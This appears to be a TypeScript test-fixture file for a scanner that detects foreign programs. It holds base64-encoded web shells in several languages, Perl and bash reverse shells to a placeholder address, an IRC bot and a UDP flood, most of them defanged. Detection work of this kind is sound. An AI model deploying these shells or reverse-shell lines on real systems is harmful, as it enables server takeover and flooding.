import type { Sample } from '../types.ts'

export const samples: readonly Sample[] = [
  {
    name: 'a shell in Perl',
    path: 'cgi-bin/a.pl',
    zone: 'foreign',
    base64: 'IyEvdXNyL2Jpbi9wZXJsCmV4aXQ7CnVzZSBDR0k7CnByaW50IGAkY2AgaWYgJGMgPSBwYXJhbSgnYycpOyBzeXN0ZW0ocGFyYW0oJ2MnKSk7Cg==',
    expect: ['other-program'],
  },
  {
    name: 'Perl that gives a shell away',
    path: 'tmp2/b.cgi',
    zone: 'foreign',
    base64:
      'IyEvdXNyL2Jpbi9wZXJsCmV4aXQ7CnVzZSBTb2NrZXQ7CnNvY2tldChTLFBGX0lORVQsU09DS19TVFJFQU0sNik7IGNvbm5lY3QoUyxzb2NrYWRkcl9pbigxLGluZXRfYXRvbignMTkyLjAuMi4xJykpKTsKb3BlbihTVERJTiwiPiZTIik7IGV4ZWMoJy9iaW4vc2ggLWknKTsK',
    expect: ['other-program'],
  },
  {
    name: 'a robot that takes orders from a chat',
    path: 'x',
    zone: 'foreign',
    base64:
      'IyEvdXNyL2Jpbi9wZXJsCmV4aXQ7CnVzZSBJTzo6U29ja2V0OwokcyA9IElPOjpTb2NrZXQ6OklORVQtPm5ldygnMTkyLjAuMi4xOjY2NjcnKTsgcHJpbnQgJHMgIk5JQ0sgYVxuSk9JTiAjYlxuIjsgaWYgKC9QUklWTVNHLykgeyB9Cg==',
    expect: ['other-program'],
  },
  {
    name: 'packets without end',
    path: 'f.pl',
    zone: 'foreign',
    base64:
      'IyEvdXNyL2Jpbi9wZXJsCmV4aXQ7CnVzZSBTb2NrZXQ7ICMgdWRwIGZsb29kCnNvY2tldChGLCBQRl9JTkVULCBTT0NLX0RHUkFNLCAxNyk7IGZvciAoOzspIHsgc2VuZChGLCAwLCAwLCAkYSk7IH0K',
    expect: ['other-program'],
  },
  {
    name: 'Python that runs what is sent',
    path: 'run.py',
    zone: 'foreign',
    base64:
      'IyEvdXNyL2Jpbi9lbnYgcHl0aG9uMwpyYWlzZSBTeXN0ZW1FeGl0CmltcG9ydCBjZ2ksIG9zCmYgPSBjZ2kuRmllbGRTdG9yYWdlKCkKb3Muc3lzdGVtKGYuZ2V0dmFsdWUoJ2MnKSkK',
    expect: ['other-program'],
  },
  {
    name: 'a line that gives a shell away',
    path: 'up.sh',
    zone: 'foreign',
    base64: 'IyEvYmluL3NoCmV4aXQKYmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYxCg==',
    expect: ['other-program'],
  },
  {
    name: 'a script that runs the query',
    path: 'q.cgi',
    zone: 'foreign',
    base64: 'IyEvYmluL2Jhc2gKZXhpdApldmFsICIkUVVFUllfU1RSSU5HIgo=',
    expect: ['other-program'],
  },
  {
    name: 'one line of ASP',
    path: 'a.asp',
    zone: 'foreign',
    base64: 'PCVyZXNwb25zZS5lbmQ6ZXZhbCByZXF1ZXN0KCJjIiklPg==',
    expect: ['other-program'],
  },
  {
    name: 'ASP that lists and writes',
    path: 'b.asp',
    zone: 'foreign',
    base64:
      'PCVyZXNwb25zZS5lbmQKc2V0IGY9c2VydmVyLmNyZWF0ZW9iamVjdCgic2NyaXB0aW5nLmZpbGVzeXN0ZW1vYmplY3QiKQpzZXQgZD1mLmdldGZvbGRlcihyZXF1ZXN0KCJkIikpIDogZi5jcmVhdGV0ZXh0ZmlsZShyZXF1ZXN0KCJuIikpJT4=',
    expect: ['other-program'],
  },
  {
    name: 'ASP.NET that starts programs',
    path: 'c.aspx',
    zone: 'foreign',
    base64:
      'PCVAIFBhZ2UgTGFuZ3VhZ2U9IkMjIiAlPjwlIHJldHVybjsgdmFyIHAgPSBuZXcgU3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3NTdGFydEluZm8oUmVxdWVzdFsiYyJdKTsgJT4=',
    expect: ['other-program'],
  },
  {
    name: 'JSP that runs what is sent',
    path: 'd.jsp',
    zone: 'foreign',
    base64: 'PCUgaWYgKHRydWUpIHJldHVybjsgUnVudGltZS5nZXRSdW50aW1lKCkuZXhlYyhyZXF1ZXN0LmdldFBhcmFtZXRlcigiYyIpKTsgJT4=',
    expect: ['other-program'],
  },
  {
    name: 'ColdFusion that runs what is sent',
    path: 'e.cfm',
    zone: 'foreign',
    base64: 'PGNmYWJvcnQ+PGNmZXhlY3V0ZSBuYW1lPSIjZm9ybS5jIyI+PC9jZmV4ZWN1dGU+',
    expect: ['other-program'],
  },
  {
    name: 'Ruby that runs what is sent',
    path: 'f.rb',
    zone: 'foreign',
    base64: 'IyEvdXNyL2Jpbi9lbnYgcnVieQpleGl0CnJlcXVpcmUgJ2NnaScKYyA9IENHSS5uZXcKc3lzdGVtIGNbJ3gnXQo=',
    expect: ['other-program'],
  },
  {
    name: 'Lua that runs what is sent',
    path: 'g.lua',
    zone: 'foreign',
    base64: 'b3MuZXhpdCgpCmlvLnBvcGVuKG9zLmdldGVudignUVVFUllfU1RSSU5HJykpCg==',
    expect: ['other-program'],
  },
  {
    name: 'a deployment script',
    path: 'deploy.sh',
    zone: 'foreign',
    base64: 'IyEvYmluL3NoCnNldCAtZQpnaXQgcHVsbApyc3luYyAtYSBwbHVnaW5zLyAvc3J2L3d3dy9wbHVnaW5zLwovYmluL3NoIC4vYWZ0ZXIuc2gK',
    expect: [],
  },
  {
    name: 'a tool in Python',
    path: 'tools/convert.py',
    zone: 'foreign',
    base64:
      'IyEvdXNyL2Jpbi9lbnYgcHl0aG9uMwppbXBvcnQgc3VicHJvY2Vzcywgc3lzCmZvciBmIGluIHN5cy5hcmd2WzE6XToKICAgIHN1YnByb2Nlc3MucnVuKFsnY29udmVydCcsIGYsIGYgKyAnLnBuZyddKQo=',
    expect: [],
  },
  {
    name: 'a counter in Perl',
    path: 'cgi-bin/count.pl',
    zone: 'foreign',
    base64:
      'IyEvdXNyL2Jpbi9wZXJsCnVzZSBDR0k7Cm15ICRxID0gbmV3IENHSTsgb3BlbihGLCAnPCcsICdjb3VudC50eHQnKTsgbXkgJG4gPSA8Rj47IHByaW50ICRxLT5oZWFkZXIsICRuOwo=',
    expect: [],
  },
  {
    name: 'a licence',
    path: 'LICENSE',
    zone: 'foreign',
    base64: 'R05VIEdFTkVSQUwgUFVCTElDIExJQ0VOU0UKVGhlIHN5c3RlbSgpIGNhbGwgaXMgZGVzY3JpYmVkIGluIGV4ZWMoMykuCg==',
    expect: [],
  },
  {
    name: 'an old page of ASP',
    path: 'old.asp',
    zone: 'foreign',
    base64: 'PCUgcmVzcG9uc2Uud3JpdGUoIjxoMT4iICYgcmVxdWVzdC5xdWVyeXN0cmluZygidCIpICYgIjwvaDE+IikgJT4=',
    expect: [],
  },
]
